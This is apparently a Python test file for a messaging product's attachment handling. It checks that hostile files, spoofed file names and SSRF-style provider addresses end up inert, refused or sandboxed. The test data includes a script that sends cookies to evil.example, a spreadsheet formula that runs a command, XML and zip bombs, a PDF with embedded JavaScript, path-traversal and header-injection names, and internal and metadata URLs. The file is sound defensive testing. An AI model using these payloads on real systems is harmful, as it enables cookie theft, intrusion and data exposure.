"""Promise 29, for files: what is sent to harm is inert. From a scripted provider, through the worker, to a page.

Each file of the corpus is fetched, kept or refused, and asked for as a page would; each address that could lead us
astray is tried as the provider's word and as a redirect, while a canary on this machine must hear nobody.
"""

import json
from datetime import timedelta
from uuid import UUID

import pytest
from aiohttp import ClientSession, web

from model.network import organisation_uuid
from runtime.ids import now
from runtime.links import Link, Links
from sandbox.people import person
from sandbox.providers import line
from storage import media
from tests import files
from tests.gate import gate
from tests.house import NOON, House
from tests.lines import Lines, fetcher
from tests.provider import canary, provider

AYE = person("aye", "my", "TH")
LURE = b"<script>fetch('https://evil.example/'+document.cookie)</script>"

CORPUS = {
    "svg": files.SVG,
    "svg without a head": b"<svg onload=alert(1)>" + LURE,
    "svg in utf-16": files.SVG.decode().encode("utf-16"),
    "html": b"<html>" + LURE,
    "html after a thousand blanks": b" \n" * 500 + b"<HTML>" + LURE,
    "html with a byte order mark": b"\xef\xbb\xbf<!DOCTYPE html>" + LURE,
    "xml with a style sheet": b"<?xml version='1.0'?><?xml-stylesheet href='//evil.example/x.xsl'?><a/>",
    "xml that unfolds": b"<?xml version='1.0'?><!DOCTYPE z [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><z>&b;</z>",
    "jpeg and html": files.polyglot(),
    "gif and javascript": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//",
    "gif": files.picture("GIF", "L"),
    "jpeg of noise": b"\xff\xd8\xff\xe0\0\x10JFIF" + LURE * 20,
    "png that unfolds": files.bomb(),
    "zip that unfolds": files.zip_bomb(),
    "pdf with a script": files.PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "program": b"MZ\x90\0" + bytes(200) + LURE,
    "formulas": b"=cmd|'/c calc'!A1,+1,-1,@x\r\n",
    "nothing": b"",
    "voice of noise": b"OggS" + LURE * 50,
    "film of noise": b"\0\0\0\x18ftypisom" + LURE * 50,
}


class Agent:
    """Opens what people send, as a page does."""

    def __init__(self, home: House, lines: Lines, far, port: int, session: ClientSession) -> None:
        self.home, self.lines, self.far, self._port, self._session = home, lines, far, port, session

    async def fetches(self) -> dict:
        """The one attachment there is, once nothing more is done about it."""
        worker = fetcher(self.home, self.lines, self.far.downloads(largest=2 << 20))
        for _ in range(8):
            while await worker.one():
                pass
            async with self.home.database.intake() as connection:
                await connection.execute("update attachment set due_at = now() where duty is not null")
        async with self.home.database.intake() as connection:
            (found,) = await media.listed(connection, after=UUID(int=0), limit=10)
        return found

    async def opens(self, attachment: UUID, purpose: str):
        organisation = organisation_uuid((await self.home.ticket())["organisation"])
        link = Link(
            purpose=purpose, organisation=organisation, attachment=attachment, until=now() + timedelta(minutes=1)
        )
        token = Links(self.home.workplace.master).token(link)
        async with self._session.get(f"http://127.0.0.1:{self._port}/files/{token}") as answer:
            return answer.status, answer.headers, await answer.read()


@pytest.fixture
async def agent(home, valkey, tmp_path):
    async with provider(tmp_path) as far, gate(home, valkey) as door, ClientSession() as session:
        yield Agent(home, Lines(home.workplace.settings.accounts, ""), far, door.port, session)


@pytest.fixture
async def bird():
    async with canary() as found:
        yield found
        await found.knock()
        assert found.hits == 1, "somebody but us reached this machine"


async def arrives(agent: Agent, kind: str = "image") -> None:
    """Somebody sends something, as that kind."""
    await agent.home.put(line.image(agent.home.accounts["line-th"], AYE, NOON, 1))
    await agent.home.take_in()
    async with agent.home.database.intake() as connection:
        await connection.execute("update attachment set kind = %s", [kind])


@pytest.mark.parametrize("kind", ["image", "audio", "file", "sticker"])
async def test_a_hostile_file_is_inert(agent, kind):
    for name, content in CORPUS.items():
        await agent.home.empty()
        agent.lines.url = agent.far.gives("/x", content, content_type="image/jpeg", headers={"X-Real": "no"})
        await arrives(agent, kind)
        await is_inert(agent, name)


async def is_inert(agent: Agent, name: str) -> None:
    found = await agent.fetches()
    assert found["state"] in ("kept", "refused"), name
    if found["state"] == "refused":
        assert found["why"] in ("web_page", "empty"), name
        assert (await agent.opens(found["id"], "show"))[0] == 404, name
        return
    for purpose in ("show", "download", "send"):
        status, headers, body = await agent.opens(found["id"], purpose)
        assert status == 200, name
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
        shown_as = headers["Content-Type"].partition(";")[0]
        assert shown_as not in ("text/html", "text/xml", "image/svg+xml", "image/gif"), name
        if headers["Content-Disposition"].startswith("inline"):
            # the one file of the corpus with a picture in it: drawn anew, and nothing else came along
            assert (name, purpose) in (("jpeg and html", "show"), ("jpeg and html", "send"))
            assert body[:3] == b"\xff\xd8\xff"
            assert b"script" not in body


NAMES = {
    "turned round": "invoice\u202efdp.exe",
    "isolated": "a\u2066b\u2069c.jpg",
    "of control characters": "a\x00b\x1b[31mc\r\nX-Evil: 1.jpg",
    "a path": "../../../etc/cron.d/x",
    "a path of Windows": "..\\..\\autoexec.bat",
    "endless": "x" * 100_000 + ".jpg",
    "invisible": "\u200b\ufeff\u2060",
    "half a letter": "a\ud83d.jpg",
    "a tag": "<img src=x onerror=alert(1)>.jpg",
}


async def test_a_hostile_name_is_harmless_wherever_it_is_shown(agent):
    for name in NAMES.values():
        await agent.home.empty()
        await is_harmless(agent, name)


async def is_harmless(agent: Agent, name: str) -> None:
    agent.lines.url = agent.far.gives("/x", files.photo())
    await arrives(agent)
    found = await agent.fetches()
    async with agent.home.database.intake() as connection:
        cursor = await connection.execute("select id, wrapped from person_key")
        ((id_, wrapped),) = await cursor.fetchall()
        key = agent.home.workplace.master.unwrap(id_, wrapped)
        sealed = key.seal("attachment|name", found["id"], name.encode("utf-8", "replace"))
        await connection.execute("update attachment set name = %s", [sealed])
    (shown,) = [a["name"] for m in (await agent.home.ticket())["messages"] for a in m["attachments"]]
    _, headers, _ = await agent.opens(found["id"], "download")
    assert "X-Evil" not in headers
    for text in (shown, json.dumps(shown, ensure_ascii=False), headers["Content-Disposition"]):
        assert text.isprintable()
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff")
    assert not set(shown) & set('/\\<>"')
    assert shown.endswith(".jpg")
    assert len(shown) < 100


def astray(port: int) -> list[str]:
    return [
        *(f"https://{host}:{port}/x" for host in ("127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "localhost", "127.1")),
        *(f"https://{host}:{port}/x" for host in ("2130706433", "0x7f.1", "0177.0.0.1", "0.0.0.0", "[::]")),  # noqa: S104
        f"http://127.0.0.1:{port}/x", f"http://api.provider.test:{port}/x", "https://[::ffff:10.0.0.1]/x",
        "https://10.0.0.1/x", "https://169.254.169.254/latest/meta-data/", "https://[fe80::1]/x", "https://[fc00::1]/x",
        f"https://api.provider.test@127.0.0.1:{port}/x", f"https://127.0.0.1:{port}#@api.provider.test/",
        "file:///etc/passwd", "gopher://127.0.0.1/x", "unix:///var/run/docker.sock",
    ]  # fmt: skip


@pytest.mark.parametrize("how", ["told", "redirected"])
async def test_no_word_of_a_provider_leads_us_home(agent, bird, how):
    for number, url in enumerate(astray(bird.port)):
        told = url if how == "told" else agent.far.sends_on(f"/{number}", url)
        agent.lines.url = told
        await agent.home.empty()
        await arrives(agent)
        found = await agent.fetches()
        assert (found["state"], found["why"]) == ("refused", "host"), url
    assert len(agent.far.asked) == (0 if how == "told" else len(astray(bird.port)))


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "10.1.2.3", "::ffff:127.0.0.1"])
async def test_a_name_that_is_bound_anew_leads_nowhere(agent, bird, address):
    """The provider's own name, which a poisoned answer of the DNS leads to this machine: tried again, never reached."""
    agent.far.names["api.provider.test"] = [address]
    agent.lines.url = f"https://api.provider.test:{bird.port}/x"
    await arrives(agent)
    found = await agent.fetches()
    assert (found["state"], found["why"]) == ("due", "address")
    assert agent.far.asked == []


async def test_a_page_to_log_in_is_no_picture(agent):
    """A 200 with HTML, as captive portals and expired links answer; once it gives the picture, that is kept."""

    async def page(request: web.Request) -> web.Response:
        if len(agent.far.asked) == 1:
            return web.Response(body=files.HTML, content_type="image/jpeg")
        return web.Response(body=files.photo(), content_type="text/html")

    agent.far.pages["/x"] = page
    agent.lines.url = agent.far.url("/x")
    await arrives(agent)
    found = await agent.fetches()
    assert (found["state"], found["mime"], len(agent.far.asked)) == ("kept", "image/jpeg", 2)


async def test_a_channel_that_names_no_host_fetches_nothing(agent):
    agent.lines.hosts = ()
    agent.lines.url = agent.far.gives("/x", files.photo())
    await arrives(agent)
    assert (await agent.fetches())["why"] == "host"
    assert agent.far.asked == []
